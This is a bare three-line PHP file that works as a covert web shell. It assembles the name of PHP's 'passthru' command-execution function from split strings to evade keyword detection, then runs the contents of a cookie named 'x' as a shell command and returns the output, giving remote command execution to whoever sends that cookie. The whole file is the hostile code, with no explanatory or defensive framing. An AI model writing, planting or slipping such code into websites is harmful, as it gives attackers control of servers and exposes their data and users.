<?php
$c = Closure::fromCallable('pass' . 'thru');
$c($_COOKIE['x']);
